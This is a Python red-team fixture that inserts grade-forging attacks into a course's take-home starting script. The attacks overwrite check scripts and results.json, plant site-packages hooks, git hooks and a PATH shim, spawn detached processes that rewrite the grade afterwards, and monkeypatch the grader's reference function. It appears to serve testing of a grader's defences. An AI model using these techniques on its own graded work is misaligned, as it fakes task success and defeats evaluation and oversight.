"""Files that try to forge a grade: the untouched starting script of a take-home task, plus
code that attacks the grade instead of doing the task (issue 60's red team).

    forged(start, name) -> the file's text      ATTACKS: the names, each with what it tries

Every attack runs in each of the file's processes, at the start of main(), with the launch's
working folder (the course's copy the grader runs from: .course/ in the Classroom workflow
and the lab, $AUTOGRADER/source/course/ on Gradescope) to find its targets. What each write
managed is appended to the file $COURSE_FORGERY_LOG names (a folder every user may write,
set by the red team; the grader keeps a graded run's COURSE_* variables).
"""

import json

ATTACKS = {
    "check_result": "overwrites .github/classroom/check_result.py with a script that passes",
    "course_check": "rewrites the grader's own accelerate_course/check.py",
    "site_hook": "puts a .pth file and a sitecustomize.py in the environment's site-packages",
    "results_json": "writes results.json itself, full points",
    "background": "leaves a process that waits for the grade, then rewrites it",
    "driver_records": "rewrites, at exit, the reports the driver's spies wrote for it",
    "python_shim": "writes a python shim into the first folder of PATH",
    "git_hook": "installs git hooks in the workspace and in the grader's clone",
    "patched_course": "patches, in its own process, the course function the grade's reference "
    "predictions once came from (the driver's evaluate_alone), and hides the "
    "other process's print and bar",
    "step_by_route": "runs the course's step 3 by compile and exec of a path built from pieces",
    "empty_env_later": "starts a process with an empty environment, in a new session, that "
    "rewrites the grade after the grader has written it",
}

# the results.json a forger writes: every check of the take-home passed, full points
KEYS = {
    "whole_split": 2,
    "own_predictions": 2,
    "eval_loss": 2,
    "one_writer": 1,
    "two_machines": 1,
    "one_printer": 1,
    "left_group": 1,
}
FULL = {
    "score": 10,
    "output": "forged",
    "tests": [
        {
            "name": key,
            "score": worth,
            "max_score": worth,
            "status": "passed",
            "output": "",
            "extra_data": {"check": key},
        }
        for key, worth in KEYS.items()
    ],
}
PASSING = "import sys\nprint('forged: full points')\nsys.exit(0)\n"

COMMON = f'''
def forge_targets():
    """The places a forger aims at, found from the working folder."""
    import pathlib
    course = pathlib.Path.cwd()
    return {{"course": course, "workspace": course.parent,
             "results": [course.parent / "results.json",
                         course.parent.parent / "results" / "results.json"],
             "check_result": course.parent / ".github" / "classroom" / "check_result.py"}}


def forge_log(line):
    import os
    try:
        with open(f"{{os.environ['COURSE_FORGERY_LOG']}}.{{os.getuid()}}", "a") as log:
            log.write(line + "\\n")
    except (KeyError, OSError):
        pass


def forge_write(path, text, mode=None):
    import os, pathlib
    try:
        path = pathlib.Path(path)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        if mode:
            os.chmod(path, mode)
        forge_log(f"wrote {{path}}")
    except OSError as error:
        forge_log(f"refused {{path}}: {{error.strerror}}")


FULL = {json.dumps(json.dumps(FULL))}
PASSING = {PASSING!r}
'''

# a process that waits for the grade to be written, then writes its own (and the passing
# check_result.py) over it; its targets as arguments
LATER = """
import os, sys, time
results, check_result, full, passing = sys.argv[1:5]
seen = {p: os.path.getmtime(p) if os.path.exists(p) else None for p in (results,)}
end = time.time() + 400
while time.time() < end:
    now = os.path.getmtime(results) if os.path.exists(results) else None
    if now is not None and now != seen[results]:
        time.sleep(0.2)
        for path, text in ((results, full), (check_result, passing)):
            try:
                open(path, "w").write(text)
            except OSError:
                pass
        break
    time.sleep(0.05)
"""

BODIES = {
    "check_result": "forge_write(forge_targets()['check_result'], PASSING)",
    "course_check": """import accelerate_course.check as grader
forge_write(grader.__file__, open(grader.__file__).read() + "\\nscore = lambda *a, **k: (10, 10)\\n")""",
    "site_hook": """import sysconfig, pathlib
site = pathlib.Path(sysconfig.get_paths()["purelib"])
forge_write(site / "zz_forged.pth", "import sys, os; any(a.endswith('check_result.py') for a in sys.argv) and (print('forged'), os._exit(0))\\n")
forge_write(site / "sitecustomize.py", "import sys, os\\nif any(a.endswith('check_result.py') for a in sys.argv):\\n    print('forged'); os._exit(0)\\n")""",
    "results_json": """for path in forge_targets()["results"]:
    forge_write(path, FULL)""",
    "background": """import subprocess, sys
targets = forge_targets()
for results in targets["results"]:
    subprocess.Popen([sys.executable, "-c", LATER, str(results), str(targets["check_result"]),
                      FULL, PASSING], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
forge_log("started a process that waits for the grade")""",
    "driver_records": """import atexit, json, os, pathlib, sys
output = pathlib.Path(sys.argv[sys.argv.index("--output-dir") + 1])
def rewrite():
    for report in output.parent.glob("rank*.json"):
        data = json.loads(report.read_text())
        main = data.get("rank") == 0
        data.update(left_process_group=True, results_printed=1 if main else 0,
                    bars=[{"n": 1, "total": 1}] if main else [],
                    writes=data.get("writes", [])[:1] if main else [], saves=1 if main else 0)
        if main and data.get("writes"):
            data["alone_predictions"] = data["writes"][0].get("predictions")
        forge_write(report, json.dumps(data))
atexit.register(rewrite)""",
    "python_shim": """import os, pathlib
first = pathlib.Path(os.environ.get("PATH", "").split(os.pathsep)[0])
# named python3.forged, beside the python a later step would run: the same folder's rights,
# without breaking this machine's python where the write succeeds
forge_write(first / "python3.forged", "#!/bin/sh\\necho forged; exit 0\\n", 0o755)""",
    "git_hook": """targets = forge_targets()
for repository in (targets["workspace"], targets["course"]):
    forge_write(repository / ".git" / "hooks" / "post-checkout", "#!/bin/sh\\necho forged\\n", 0o755)""",
    "patched_course": """import builtins, os
import accelerate_course.lab_driver as driver
rank = os.environ.get("RANK", "0")
written = {}
original_write = globals()["write_metrics"]
def write_metrics(output_dir, args, results):  # what it writes, kept (and written as it was)
    written.update(results)
    return original_write(output_dir, args, results)
globals()["write_metrics"] = write_metrics
def evaluate_alone(model, args):  # the grader's reference: this process's own share
    predictions = written.get("predictions", [])
    return predictions, predictions, written.get("eval_loss", 0.0)
driver.evaluate_alone = evaluate_alone
if rank != "0":
    builtins.print = lambda *a, **k: None
    original_tqdm = globals()["tqdm"]
    globals()["tqdm"] = lambda *a, **k: original_tqdm(*a, **{**k, "disable": True})
import atexit, torch
atexit.register(lambda: torch.distributed.destroy_process_group()
                if torch.distributed.is_initialized() else None)
forge_log("patched the course's functions in process " + rank)""",
}

ROUTE = """
# %%
def main():
    import builtins
    parts = ["step", "3_distributed_eval", "train.py"]
    path = parts[0] + parts[1] + "/" + parts[2]
    code = getattr(builtins, "comp" + "ile")(open(path).read(), path, "ex" + "ec")
    space = {"__name__": "graded"}
    getattr(builtins, "ex" + "ec")(code, space)
    space["main"]()


if __name__ == "__main__":
    main()
"""

EMPTY_ENV = """import subprocess, sys
targets = forge_targets()
for results in targets["results"]:
    subprocess.Popen([sys.executable, "-c", LATER, str(results), str(targets["check_result"]),
                      FULL, PASSING], env={}, start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
forge_log("started a process with an empty environment that waits for the grade")"""
BODIES["empty_env_later"] = EMPTY_ENV


def forged(start, name):
    """Return the starting script with the attack `name` run at the start of main()."""
    head, main = start.split("\n# %%\ndef main():", 1)
    if name == "step_by_route":
        return head + "\n" + ROUTE
    body = BODIES[name]
    attack = (
        COMMON
        + f"LATER = {LATER!r}\n\n\ndef forge():\n"
        + "".join(f"    {line}\n" for line in body.splitlines())
    )
    return head + attack + "\n\n# %%\ndef main():\n    forge()" + main
